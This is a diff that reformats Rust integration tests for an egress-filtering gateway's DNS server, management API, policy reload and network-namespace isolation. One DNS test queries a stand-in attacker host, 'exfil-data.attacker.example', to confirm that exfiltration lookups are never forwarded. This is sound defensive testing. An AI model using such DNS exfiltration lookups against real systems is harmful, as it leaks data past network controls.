@@ -9,42 +9,95 @@ use common::{API, Env, Opts, curl, json, run};
 
 async fn dig(env: &Env, args: &[&str]) -> String {
     let dns = env.addrs.dns.unwrap();
-    let mut a: Vec<String> = vec![format!("@{}", dns.ip()), "-p".into(), dns.port().to_string(), "+short".into(), "+time=3".into(), "+tries=1".into()];
+    let mut a: Vec<String> = vec![
+        format!("@{}", dns.ip()),
+        "-p".into(),
+        dns.port().to_string(),
+        "+short".into(),
+        "+time=3".into(),
+        "+tries=1".into(),
+    ];
     a.extend(args.iter().map(|s| s.to_string()));
-    String::from_utf8_lossy(&run("dig", &a, &[]).await.stdout).trim().to_string()
+    String::from_utf8_lossy(&run("dig", &a, &[]).await.stdout)
+        .trim()
+        .to_string()
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn dns_answers_with_the_gateway_address_over_udp_and_tcp() {
     let env = Env::start(Opts::default()).await;
     assert_eq!(dig(&env, &["anything.example.com", "A"]).await, "127.0.0.1");
-    assert_eq!(dig(&env, &["+tcp", "api.openai.com", "A"]).await, "127.0.0.1");
-    assert_eq!(dig(&env, &["anything.example.com", "AAAA"]).await, "", "no AAAA without proxy_ip6");
+    assert_eq!(
+        dig(&env, &["+tcp", "api.openai.com", "A"]).await,
+        "127.0.0.1"
+    );
+    assert_eq!(
+        dig(&env, &["anything.example.com", "AAAA"]).await,
+        "",
+        "no AAAA without proxy_ip6"
+    );
     assert_eq!(dig(&env, &["static.test", "A"]).await, "192.0.2.7");
-    assert_eq!(dig(&env, &["localhost", "A"]).await, "127.0.0.1", "passthrough via the system resolver");
-    assert_eq!(dig(&env, &["exfil-data.attacker.example", "TXT"]).await, "", "never forwarded");
+    assert_eq!(
+        dig(&env, &["localhost", "A"]).await,
+        "127.0.0.1",
+        "passthrough via the system resolver"
+    );
+    assert_eq!(
+        dig(&env, &["exfil-data.attacker.example", "TXT"]).await,
+        "",
+        "never forwarded"
+    );
     // Malformed packets are dropped and counted; the server keeps answering.
     let sock = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
-    sock.send_to(b"\x00\x01garbage", env.addrs.dns.unwrap()).await.unwrap();
+    sock.send_to(b"\x00\x01garbage", env.addrs.dns.unwrap())
+        .await
+        .unwrap();
     assert_eq!(dig(&env, &["after.garbage.test", "A"]).await, "127.0.0.1");
-    let (_, metrics, _) = curl(&env, &[&format!("http://{}/metrics", env.addrs.metrics.unwrap())]).await;
-    assert!(metrics.contains("centaur_gateway_dns_malformed_total 1"), "{metrics}");
+    let (_, metrics, _) = curl(
+        &env,
+        &[&format!("http://{}/metrics", env.addrs.metrics.unwrap())],
+    )
+    .await;
+    assert!(
+        metrics.contains("centaur_gateway_dns_malformed_total 1"),
+        "{metrics}"
+    );
     env.stop().await;
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn management_api_auth_status_metrics_and_reload() {
-    let env = Env::start(Opts { management_token: Some("s3cret"), ..Opts::default() }).await;
+    let env = Env::start(Opts {
+        management_token: Some("s3cret"),
+        ..Opts::default()
+    })
+    .await;
     let m = format!("http://{}", env.addrs.management.unwrap());
     assert_eq!(curl(&env, &[&format!("{m}/healthz")]).await.0, 200);
     assert_eq!(curl(&env, &[&format!("{m}/readyz")]).await.0, 200);
     assert_eq!(curl(&env, &[&format!("{m}/v1/status")]).await.0, 401);
-    assert_eq!(curl(&env, &["-H", "Authorization: Bearer wrong", &format!("{m}/v1/status")]).await.0, 401);
+    assert_eq!(
+        curl(
+            &env,
+            &[
+                "-H",
+                "Authorization: Bearer wrong",
+                &format!("{m}/v1/status")
+            ]
+        )
+        .await
+        .0,
+        401
+    );
     let auth = "Authorization: Bearer s3cret";
     let (code, body, _) = curl(&env, &["-H", auth, &format!("{m}/v1/status")]).await;
     assert_eq!(code, 200);
     assert_eq!(json(&body)["policy_rules"], 2);
-    assert_eq!(curl(&env, &["-H", auth, &format!("{m}/v1/reload")]).await.0, 405, "reload is POST");
+    assert_eq!(
+        curl(&env, &["-H", auth, &format!("{m}/v1/reload")]).await.0,
+        405,
+        "reload is POST"
+    );
     // Traffic, then metrics.
     let mut args = env.to_https(API);
     args.push(format!("https://{API}/m"));
@@ -52,17 +105,32 @@ async fn management_api_auth_status_metrics_and_reload() {
     assert_eq!(curl(&env, &args_ref).await.0, 200);
     env.record(|r| r["path"] == "/m").await;
     let (_, metrics, _) = curl(&env, &["-H", auth, &format!("{m}/metrics")]).await;
-    assert!(metrics.contains("centaur_gateway_requests_total{listener=\"https\",action=\"allow\"} 1"), "{metrics}");
+    assert!(
+        metrics.contains("centaur_gateway_requests_total{listener=\"https\",action=\"allow\"} 1"),
+        "{metrics}"
+    );
     // An invalid policy is refused with every error; the running one stays (invariant 5).
     let path = env.path("gateway.yaml");
     let good = std::fs::read_to_string(&path).unwrap();
-    std::fs::write(&path, good.replace("domains: ['*.test']", "domains: ['*', 'api.*.test']")).unwrap();
+    std::fs::write(
+        &path,
+        good.replace("domains: ['*.test']", "domains: ['*', 'api.*.test']"),
+    )
+    .unwrap();
     let (code, body, _) = curl(&env, &["-X", "POST", "-H", auth, &format!("{m}/v1/reload")]).await;
     assert_eq!(code, 422, "{body}");
     assert_eq!(json(&body)["errors"].as_array().unwrap().len(), 2, "{body}");
-    assert_eq!(curl(&env, &args_ref).await.0, 200, "the old policy still serves");
+    assert_eq!(
+        curl(&env, &args_ref).await.0,
+        200,
+        "the old policy still serves"
+    );
     // A valid policy that no longer allows api.test takes effect at once.
-    std::fs::write(&path, good.replace("domains: ['*.test']", "domains: ['other.test']")).unwrap();
+    std::fs::write(
+        &path,
+        good.replace("domains: ['*.test']", "domains: ['other.test']"),
+    )
+    .unwrap();
     let (code, body, _) = curl(&env, &["-X", "POST", "-H", auth, &format!("{m}/v1/reload")]).await;
     assert_eq!(code, 200, "{body}");
     let (code, _, err) = curl(&env, &args_ref).await;
@@ -76,19 +144,30 @@ async fn management_api_auth_status_metrics_and_reload() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn workload_in_a_network_namespace_only_reaches_the_gateway() {
     if !nix_is_root() {
-        eprintln!("SKIPPED workload_in_a_network_namespace_only_reaches_the_gateway: needs root for ip netns");
+        eprintln!(
+            "SKIPPED workload_in_a_network_namespace_only_reaches_the_gateway: needs root for ip netns"
+        );
         return;
     }
     let ns = format!("cgw{}", std::process::id());
-    let (host_if, ns_if) = (format!("h{}", std::process::id() % 100000), format!("n{}", std::process::id() % 100000));
+    let (host_if, ns_if) = (
+        format!("h{}", std::process::id() % 100000),
+        format!("n{}", std::process::id() % 100000),
+    );
     let third = (std::process::id() % 200 + 20) as u8;
     let (gw_ip, ns_ip) = (format!("10.213.{third}.1"), format!("10.213.{third}.2"));
     let sh = |c: String| async move {
         let out = run("sh", &["-c".into(), c.clone()], &[]).await;
-        assert!(out.status.success(), "{c}: {}", String::from_utf8_lossy(&out.stderr));
+        assert!(
+            out.status.success(),
+            "{c}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
     };
     sh(format!("ip netns add {ns} && ip link add {host_if} type veth peer name {ns_if} && ip link set {ns_if} netns {ns} && ip addr add {gw_ip}/30 dev {host_if} && ip link set {host_if} up && ip netns exec {ns} ip addr add {ns_ip}/30 dev {ns_if} && ip netns exec {ns} ip link set {ns_if} up && ip netns exec {ns} ip link set lo up")).await;
-    let cleanup = Cleanup(format!("ip netns del {ns}; ip link del {host_if} 2>/dev/null"));
+    let cleanup = Cleanup(format!(
+        "ip netns del {ns}; ip link del {host_if} 2>/dev/null"
+    ));
     // The gateway listens on the veth address at the standard ports, as in production.
     let env = Env::start(Opts {
         proxy_extra: String::new(),
@@ -101,20 +180,33 @@ async fn workload_in_a_network_namespace_only_reaches_the_gateway() {
     let inside = |cmd: String| {
         let (ns, resolv) = (ns.clone(), resolv.display().to_string());
         async move {
-            let c = format!("ip netns exec {ns} unshare -m sh -c 'mount --bind {resolv} /etc/resolv.conf && {cmd}'");
+            let c = format!(
+                "ip netns exec {ns} unshare -m sh -c 'mount --bind {resolv} /etc/resolv.conf && {cmd}'"
+            );
             run("sh", &["-c".into(), c], &[]).await
         }
     };
     let ca = env.ca();
     let ok = inside(format!("curl -sS --max-time 10 --cacert {ca} -o /dev/null -w %{{http_code}} https://{API}/from-netns")).await;
-    assert_eq!(String::from_utf8_lossy(&ok.stdout), "200", "{}", String::from_utf8_lossy(&ok.stderr));
-    let denied = inside(format!("curl -sS --max-time 10 --cacert {ca} https://denied.example.com/")).await;
+    assert_eq!(
+        String::from_utf8_lossy(&ok.stdout),
+        "200",
+        "{}",
+        String::from_utf8_lossy(&ok.stderr)
+    );
+    let denied = inside(format!(
+        "curl -sS --max-time 10 --cacert {ca} https://denied.example.com/"
+    ))
+    .await;
     assert!(!denied.status.success());
     // No route anywhere but the gateway's /30: a literal IP elsewhere is unreachable.
     let direct = inside("curl -sS --max-time 3 http://93.184.216.34/".into()).await;
     assert!(!direct.status.success());
     let r = env.record(|r| r["path"] == "/from-netns").await;
-    assert_eq!(r["client"].as_str().unwrap().split(':').next().unwrap(), ns_ip);
+    assert_eq!(
+        r["client"].as_str().unwrap().split(':').next().unwrap(),
+        ns_ip
+    );
     env.record(|r| r["host"] == "denied.example.com").await;
     env.stop().await;
     drop(cleanup);
@@ -124,10 +216,16 @@ struct Cleanup(String);
 
 impl Drop for Cleanup {
     fn drop(&mut self) {
-        let _ = std::process::Command::new("sh").args(["-c", &self.0]).status();
+        let _ = std::process::Command::new("sh")
+            .args(["-c", &self.0])
+            .status();
     }
 }
 
 fn nix_is_root() -> bool {
-    std::process::Command::new("id").arg("-u").output().map(|o| o.stdout == b"0\n").unwrap_or(false)
+    std::process::Command::new("id")
+        .arg("-u")
+        .output()
+        .map(|o| o.stdout == b"0\n")
+        .unwrap_or(false)
 }
